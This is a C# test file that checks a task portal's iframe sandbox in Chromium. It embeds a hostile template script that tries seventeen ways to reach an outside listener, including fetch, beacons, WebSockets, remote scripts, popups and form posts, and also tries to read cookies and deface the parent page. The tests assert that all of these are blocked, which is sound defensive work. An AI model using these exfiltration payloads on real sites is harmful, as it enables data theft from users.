using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using GtPs.Engine.Tests.Portal;

namespace GtPs.Engine.Tests.Browser;

/// <summary>A template that means harm can answer its own task and do nothing else.</summary>
public sealed class PortalSandboxTests(Chromium chromium) : IDisposable
{
    // Somebody else's server: nobody may say a word to it. Chromium opens a connection ahead for a navigation that it then refuses; that says nothing.
    private readonly TcpListener _stranger = new(IPAddress.Loopback, 0);
    private readonly ConcurrentQueue<string> _heard = new();

    public void Dispose() => _stranger.Dispose();

    private async Task ListenAsync()
    {
        try
        {
            while (true)
            {
                _ = HearAsync(await _stranger.AcceptTcpClientAsync());
            }
        }
        catch (Exception exception) when (exception is SocketException or ObjectDisposedException or InvalidOperationException)
        {
            // The test has ended.
        }
    }

    private async Task HearAsync(TcpClient caller)
    {
        using (caller)
        {
            try
            {
                using var reader = new StreamReader(caller.GetStream());
                if (await reader.ReadLineAsync() is { } line)
                {
                    _heard.Enqueue(line);
                }
            }
            catch (IOException)
            {
                // The browser has left without a word.
            }
        }
    }

    [Fact]
    public async Task A_hostile_script_reaches_nothing()
    {
        _stranger.Start();
        _ = ListenAsync();
        var stranger = $"http://{_stranger.LocalEndpoint}";
        await using var portal = await PortalScene.StartAsync(objects: 2, change: PortalVisit.WithTemplate(Hostile(stranger)));
        await using var anna = await PortalVisit.SignInAsync(chromium, portal);
        await anna.StartAsync();
        await Poll.UntilAsync<object>(
            async () => await anna.FrameAsync("document.querySelector('[name=report]').value !== ''") is { ValueKind: JsonValueKind.True } ? this : null, "The script did not come to its end.", TestContext.Current.CancellationToken);
        var tried = JsonDocument.Parse((await anna.FrameAsync("document.querySelector('[name=report]').value")).GetString()!).RootElement;

        Assert.All(tried.EnumerateObject(), attempt => Assert.Equal("refused", attempt.Value.GetString()));
        Assert.Equal(17, tried.EnumerateObject().Count());
        Assert.Empty(_heard);
        Assert.Equal("/_gt/portal/", (await anna.Page.EvaluateAsync("location.pathname")).GetString());
        Assert.NotEqual("hacked", (await anna.Page.EvaluateAsync("document.title")).GetString());

        // The task can still be answered, and the answer is all that leaves the frame.
        var first = await anna.TaskAsync();
        await anna.Page.PressAsync("1");
        await anna.Page.PressAsync("Enter");
        await anna.ReadyAsync(otherThan: first);
        Assert.Empty(_heard);
    }

    [Theory]
    [InlineData("location.href = STRANGER")]
    [InlineData("location.replace(EVIL)")]
    [InlineData("document.querySelector('#out').click()")]
    public async Task A_frame_that_leaves_gets_nowhere_and_the_page_goes_on(string leave)
    {
        _stranger.Start();
        _ = ListenAsync();
        var template = PortalVisit.Plain + """<a id="out" href="http://STRANGERHOST/">out</a><script>const STRANGER = 'http://STRANGERHOST/'; const EVIL = '{{ 's3://scene/evil.html' | grant_read_access | skip_autoescape }}'; setTimeout(() => { LEAVE; }, 300);</script>"""
            .Replace("STRANGERHOST", _stranger.LocalEndpoint.ToString(), StringComparison.Ordinal).Replace("LEAVE", leave, StringComparison.Ordinal);
        await using var portal = await PortalScene.StartAsync(objects: 2, change: async (scene, request) =>
        {
            // A page in the bucket, which the engine would serve without the frame's policy.
            await scene.PutAsync("evil.html", $"<script>new Image().src = 'http://{_stranger.LocalEndpoint}/'; parent.postMessage({{ gt: 1, type: 'ready', keys: [], unknown: ['crowd-evil'] }}, '*')</script>");
            await PortalVisit.WithTemplate(template)(scene, request);
        });
        await using var anna = await PortalVisit.SignInAsync(chromium, portal);
        await anna.Page.ClickAsync(".card button");
        await anna.Page.WaitAsync("document.querySelector('iframe.shown')");
        await Task.Delay(1500, TestContext.Current.CancellationToken);

        Assert.Empty(_heard);
        Assert.DoesNotContain("crowd-evil", await anna.TextAsync(), StringComparison.Ordinal);
        var task = await anna.TaskAsync();
        await anna.Page.ClickAsync(".tools .tool:nth-child(2)");
        await anna.Page.WaitAsync($"document.querySelector('iframe.shown') && !document.querySelector('iframe.shown').src.endsWith('/{task}')");
    }

    private static string Hostile(string stranger) => PortalVisit.Plain.Replace("</crowd-form>", """<input type="hidden" name="report"></crowd-form>""", StringComparison.Ordinal) + """
        <iframe name="inner"></iframe>
        <form id="post" method="post" action="STRANGER/form" target="_top"><input name="a" value="b"></form>
        <img src="STRANGER/markup.png"><link rel="stylesheet" href="STRANGER/style.css">
        <script>
        const nonce = document.currentScript.nonce;
        (async () => {
          const report = {};
          const attempt = async (name, act) => {
            // What neither succeeds nor fails has come to nothing: the stranger's door shows that nobody knocked.
            const nothing = new Promise(yes => setTimeout(() => yes('refused'), 1500));
            try { report[name] = await Promise.race([act(), nothing]) === 'refused' ? 'refused' : 'done'; } catch { report[name] = 'refused'; }
          };
          const image = url => new Promise((yes, no) => { const made = new Image(); made.onload = yes; made.onerror = no; made.src = url; });
          await attempt('fetch', () => fetch('STRANGER/fetch'));
          await attempt('fetchNoCors', () => fetch('STRANGER/fetch', { mode: 'no-cors' }));
          await attempt('ownApi', () => fetch('/_gt/portal/api/jobs', { credentials: 'include' }));
          await attempt('image', () => image('STRANGER/image.png?data=1'));
          await attempt('beacon', () => new Promise(yes => { addEventListener('securitypolicyviolation', () => yes('refused'), { once: true }); navigator.sendBeacon('STRANGER/beacon', 'x'); setTimeout(yes, 2000); }));
          await attempt('socket', () => new Promise((yes, no) => { const made = new WebSocket('STRANGER/socket'.replace('http', 'ws')); made.onopen = yes; made.onerror = no; }));
          await attempt('events', () => new Promise((yes, no) => { const made = new EventSource('STRANGER/events'); made.onopen = yes; made.onerror = no; }));
          await attempt('request', () => new Promise((yes, no) => { const made = new XMLHttpRequest(); made.open('GET', 'STRANGER/xhr'); made.onload = yes; made.onerror = no; made.send(); }));
          await attempt('script', () => new Promise((yes, no) => { const made = document.createElement('script'); made.src = 'STRANGER/script.js'; made.onload = yes; made.onerror = no; document.head.append(made); }));
          await attempt('nonce', () => new Promise((yes, no) => { const made = document.createElement('script'); made.nonce = nonce; made.src = 'STRANGER/nonce.js'; made.onload = yes; made.onerror = no; document.head.append(made); }));
          await attempt('import', () => import('STRANGER/module.js'));
          await attempt('worker', () => new Promise((yes, no) => { const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); made.onmessage = yes; made.onerror = no; }));
          await attempt('evaluate', () => eval('1'));
          await attempt('cookie', () => document.cookie === '' ? 'refused' : 'done');
          await attempt('storage', () => localStorage.setItem('a', 'b'));
          await attempt('page', () => { parent.document.title = 'hacked'; });
          await attempt('popup', () => window.open('STRANGER/popup') === null ? 'refused' : 'done');
          try { top.location = 'STRANGER/top'; } catch { /* What becomes of it the test sees. */ }
          try { document.getElementById('post').submit(); } catch { /* The same. */ }
          frames.inner.location = 'STRANGER/inner';
          const handler = document.createElement('div');
          handler.setAttribute('onclick', "parent.postMessage('clicked', '*')");
          handler.click();
          setTimeout(() => { document.querySelector('[name=report]').value = JSON.stringify(report); }, 500);
        })();
        </script>
        """.Replace("STRANGER", stranger, StringComparison.Ordinal);
}
